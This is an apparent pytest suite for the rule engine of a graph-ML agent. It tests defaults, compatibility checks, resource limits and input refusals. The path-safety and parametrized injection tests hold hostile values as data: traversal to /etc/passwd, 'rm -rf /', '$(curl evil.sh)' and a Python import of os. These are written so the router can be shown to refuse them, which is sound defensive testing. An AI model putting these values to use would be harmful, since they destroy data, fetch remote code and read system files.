"""The rule engine: each rule decides with a reason, and each bad input is refused clearly."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agent.actions import parse_actions
from agent.errors import RuleViolation
from agent.router import RULES, Limits, RouteContext, Router, estimate
from core.errors import UserInputError


@pytest.fixture
def ctx(tmp_path: Path) -> RouteContext:
    data = tmp_path / "data"
    data.mkdir()
    return RouteContext(workspace=tmp_path / "ws", data_dir=data)


def check(fields: dict, ctx: RouteContext):
    return Router().check(fields, ctx)


def reasons(routed) -> str:
    return "\n".join(routed.explain())


def test_rules_are_declared_in_order_in_one_place():
    kinds = [r.kind for r in RULES]
    assert kinds[0] == "safety" and kinds[-1] == "routing"
    assert {"safety", "inherit", "default", "compatibility", "bound", "routing"} == set(kinds)


def test_task_default_comes_from_the_dataset_with_its_reason(ctx):
    routed = check({"action": "train", "dataset": "cora", "model": "gcn"}, ctx)
    assert routed.fields["task"] == "node_classification"
    assert "task set to node_classification because Cora is a node-level dataset" in reasons(routed)
    assert routed.user_fields == {"dataset": "cora", "model": "gcn"}


def test_model_defaults_are_the_papers_values_and_recorded(ctx):
    gat = check({"action": "train", "dataset": "cora", "model": "gat"}, ctx)
    assert gat.fields["heads"] == 8 and gat.fields["lr"] == 0.005 and gat.fields["dropout"] == 0.6
    kinds = {d.field: d.kind for d in gat.decisions}
    assert kinds["heads"] == kinds["lr"] == kinds["epochs"] == "default"
    assert "Veličković" in reasons(gat)
    gcn = check({"action": "train", "dataset": "cora", "model": "gcn", "lr": 0.1}, ctx)
    assert gcn.fields["lr"] == 0.1  # what the user said is never overwritten
    assert "heads" not in gcn.fields  # heads means nothing to a GCN
    assert gcn.fields["hidden_channels"] == 16


def test_graph_dataset_defaults_to_graph_classification_and_gin(ctx):
    routed = check({"action": "train", "dataset": "mutag"}, ctx)
    assert routed.fields["task"] == "graph_classification"
    assert routed.fields["model"] == "gin"
    assert "graph-level" in reasons(routed)


def test_impossible_model_task_dataset_is_refused_with_alternatives(ctx):
    with pytest.raises(RuleViolation) as caught:
        check({"action": "train", "dataset": "cora", "model": "gin",
               "task": "graph_classification"}, ctx)  # fmt: skip
    error = caught.value
    assert "Cora is a node-level dataset" in error.reason
    assert any("node_classification on cora with gin" in a for a in error.alternatives)
    assert any("graph_classification on mutag" in a for a in error.alternatives)
    assert error.exit_code == 5


def test_model_that_cannot_do_the_task_is_refused(ctx):
    with pytest.raises(RuleViolation, match="sgc does not support graph_classification"):
        check({"action": "train", "dataset": "mutag", "model": "sgc"}, ctx)


def test_unknown_dataset_is_refused_with_the_choices(ctx):
    with pytest.raises(RuleViolation, match="Unknown dataset 'imagenet'.*choose from: cora"):
        check({"action": "train", "dataset": "imagenet"}, ctx)


def test_missing_dataset_is_refused(ctx):
    with pytest.raises(RuleViolation, match="needs a dataset and none was named"):
        check({"action": "train", "model": "gcn"}, ctx)


def test_absurd_epochs_are_refused_against_the_bounds_and_the_limit(ctx):
    # Outside what the catalogue allows at all:
    with pytest.raises(RuleViolation, match=r"epochs=1000000000 is outside \[1, 100000\]"):
        check({"action": "train", "dataset": "cora", "epochs": 10**9}, ctx)
    # Allowed, but over the user's budget cap:
    with pytest.raises(RuleViolation, match=r"epochs=5000 is over the limit max_epochs=2000"):
        check({"action": "train", "dataset": "cora", "epochs": 5000}, ctx)


def test_limits_are_user_configurable(ctx):
    ctx.workspace.mkdir()
    (ctx.workspace / "limits.json").write_text(json.dumps({"max_epochs": 50}))
    ctx.limits = Limits.load(ctx.workspace)
    with pytest.raises(RuleViolation, match="max_epochs=50"):
        check({"action": "train", "dataset": "cora", "epochs": 100}, ctx)
    assert check({"action": "train", "dataset": "cora", "epochs": 50}, ctx).fields["epochs"] == 50


def test_bad_limits_file_is_a_clear_error(tmp_path):
    (tmp_path / "limits.json").write_text('{"max_epoch": 5}')
    with pytest.raises(UserInputError, match="known limits: max_epochs"):
        Limits.load(tmp_path)


def test_budget_refuses_plans_over_the_wall_time_limit(ctx):
    ctx.limits = Limits(max_wall_seconds=60)
    with pytest.raises(RuleViolation, match="over max_wall_seconds=60"):
        check({"action": "tune", "dataset": "pubmed", "n_trials": 100}, ctx)


def test_budget_refuses_plans_over_the_memory_limit(ctx):
    ctx.limits = Limits(max_memory_mb=450)
    with pytest.raises(RuleViolation, match="over max_memory_mb=450"):
        check({"action": "train", "dataset": "pubmed", "model": "gat", "hidden_channels": 512}, ctx)


def test_expensive_plan_asks_for_confirmation(ctx):
    cheap = check({"action": "train", "dataset": "karate", "epochs": 10}, ctx)
    assert not cheap.needs_confirmation
    pricey = check({"action": "tune", "dataset": "pubmed", "n_trials": 150}, ctx)
    assert pricey.needs_confirmation and "may take up to" in pricey.confirmation_reason
    # The question names the budget it exceeds and how to shorten the plan.
    assert "over the 5 min that runs without asking" in pricey.confirmation_reason
    assert "fewer epochs or seeds" in pricey.confirmation_reason


def test_report_is_routed_to_the_report_tool(ctx):
    routed = check({"action": "report", "run_ids": [1]}, ctx)
    assert routed.tool == "report"
    assert "routed to tool 'report'" in reasons(routed)
    answer = check({"action": "answer", "question": "why?"}, ctx)
    assert answer.tool is None and "answered in the conversation" in reasons(answer)


def test_a_compare_of_stored_runs_says_which_planned_settings_it_does_not_use(ctx):
    """'compare runs 1 and 2' was planned with the chat's models, epochs and seeds too; the
    report showed that plan and only "routed to tool 'compare'"."""
    plan = {"action": "compare", "run_ids": [1, 2], "models": ["gcn", "gat"], "epochs": 50}
    routed = check(plan, ctx)
    assert routed.tool == "compare"
    assert ("models=gcn,gat, epochs=50 not used: a comparison of the stored runs 1, 2 takes "
            "each run's own settings") in reasons(routed)  # fmt: skip
    assert "not used" not in reasons(check({"action": "compare", "run_ids": [1, 2]}, ctx))
    ctx.chosen_runs = [1, 2]  # the chat chose them: the request named no runs
    chosen = check({"action": "compare", "run_ids": [1, 2]}, ctx)
    assert "runs 1, 2: this chat's last two trainings" in reasons(chosen)
    from agent.commands.run import format_plan

    assert "not used: a comparison of the stored runs 1, 2" in format_plan([routed])


def test_estimate_grows_with_the_work():
    base = estimate({"dataset": "cora", "epochs": 1}, "train")
    small = estimate({"dataset": "cora", "epochs": 10}, "train")
    big = estimate({"dataset": "cora", "epochs": 100, "seeds": 3}, "train")
    # 9 epochs more vs 290 more: the work grows ~30x, whatever the fixed cost (imports,
    # loading) the probe measured, which on a loaded machine is most of a short run
    assert big.seconds - small.seconds > 10 * (small.seconds - base.seconds) > 0
    assert estimate({"dataset": "some.csv"}, "train").seconds is None


def test_path_outside_workspace_is_refused(ctx, monkeypatch):
    monkeypatch.chdir(ctx.workspace.parent)
    with pytest.raises(RuleViolation, match=r"\.\./\.\./etc/passwd is outside the directories"):
        check({"action": "train", "dataset": "../../etc/passwd"}, ctx)
    with pytest.raises(RuleViolation, match="is outside"):
        check({"action": "inspect", "dataset": "/etc/passwd"}, ctx)


def test_path_inside_workspace_is_allowed(ctx, monkeypatch):
    graph = ctx.workspace / "mygraph"
    graph.mkdir(parents=True)
    (graph / "nodes.csv").write_text("id,label\n0,0\n1,1\n")
    (graph / "edges.csv").write_text("src,dst\n0,1\n")
    monkeypatch.chdir(ctx.workspace)  # a relative path is read from the current directory
    routed = check({"action": "inspect", "dataset": "./mygraph"}, ctx)
    assert routed.tool == "inspect"
    assert routed.fields["dataset"] == str(graph.resolve())  # the plan names the resolved path
    assert routed.fields["task"] == "node_classification"  # a CSV graph is node-level
    assert any(d.kind == "safety" for d in routed.decisions)


def test_symlink_escaping_the_workspace_is_refused(ctx, monkeypatch):
    ctx.workspace.mkdir()
    (ctx.workspace / "escape").symlink_to("/etc")
    monkeypatch.chdir(ctx.workspace)
    with pytest.raises(RuleViolation, match="is outside"):
        check({"action": "inspect", "dataset": "escape/passwd"}, ctx)


@pytest.mark.parametrize(
    "value", ["cora; rm -rf /", "$(curl evil.sh)", "`id`", "__import__('os')", "cora && ls"]
)
def test_code_or_shell_text_is_refused(ctx, value):
    with pytest.raises(RuleViolation, match="contains code or shell text"):
        check({"action": "train", "dataset": value}, ctx)


def test_unknown_fields_are_refused(ctx):
    with pytest.raises(RuleViolation, match="has no field\\(s\\) command"):
        check({"action": "train", "dataset": "cora", "command": "ls"}, ctx)
    with pytest.raises(RuleViolation, match="Unknown action 'shell'"):
        check({"action": "shell", "dataset": "cora"}, ctx)


def test_compare_needs_two_models_and_gets_seeds_for_a_t_test(ctx):
    with pytest.raises(RuleViolation, match="at least two models"):
        check({"action": "compare", "dataset": "cora", "models": ["gcn"]}, ctx)
    routed = check({"action": "compare", "dataset": "cora", "models": ["gcn", "gat"]}, ctx)
    assert routed.fields["seeds"] >= 2
    assert routed.fields["num_layers"] == 2  # both papers agree
    assert "lr" not in routed.fields and "heads" not in routed.fields  # each keeps its own


def test_tune_defaults(ctx):
    routed = check({"action": "tune", "dataset": "cora", "model": "gcn"}, ctx)
    assert routed.fields["n_trials"] == 20 and routed.tool == "tune"
    assert "n_trials set to 20" in reasons(routed)


def test_followup_inherits_only_what_it_does_not_name(ctx):
    ctx.previous = {"dataset": "citeseer", "model": "gcn", "epochs": 30, "hidden_channels": 32}
    ctx.previous_run_id = 3
    ctx.followup = True
    routed = check({"action": "train", "model": "gat"}, ctx)
    assert routed.fields["model"] == "gat"
    assert routed.fields["dataset"] == "citeseer" and routed.fields["epochs"] == 30
    assert routed.fields["hidden_channels"] == 32  # the user's own value, kept
    assert routed.fields["heads"] == 8  # GAT's default, not inherited
    assert "dataset kept as citeseer from run 3" in reasons(routed)
    assert routed.requested == {"dataset": "citeseer", "model": "gat", "epochs": 30,
                                "hidden_channels": 32}  # fmt: skip


def test_fresh_request_does_not_inherit(ctx):
    ctx.previous = {"dataset": "citeseer", "model": "gcn", "epochs": 30}
    routed = check({"action": "train", "dataset": "cora", "model": "gat"}, ctx)
    from graph_ml.models import MODELS

    assert routed.fields["epochs"] == MODELS.get("gat").hparams("node_classification")["epochs"]
    assert routed.fields["epochs"] != 30
    assert not any(d.kind == "inherit" for d in routed.decisions)


def test_parsed_actions_route_to_their_tools(ctx):
    text = json.dumps(
        {
            "actions": [
                {"action": "inspect", "dataset": "cora"},
                {"action": "clarify", "question": "Which dataset?"},
            ]
        }
    )
    inspect, clarify = (Router().check(a, ctx) for a in parse_actions(text))
    assert inspect.tool == "inspect" and clarify.tool is None
    assert clarify.fields["question"] == "Which dataset?"


def test_followup_on_another_dataset_takes_that_datasets_task(ctx):
    ctx.previous = {"dataset": "cora", "task": "node_classification", "model": "gin", "epochs": 7}
    ctx.followup = True
    routed = check({"action": "train", "dataset": "mutag"}, ctx)
    assert routed.fields["task"] == "graph_classification"
    assert routed.fields["model"] == "gin" and routed.fields["epochs"] == 7
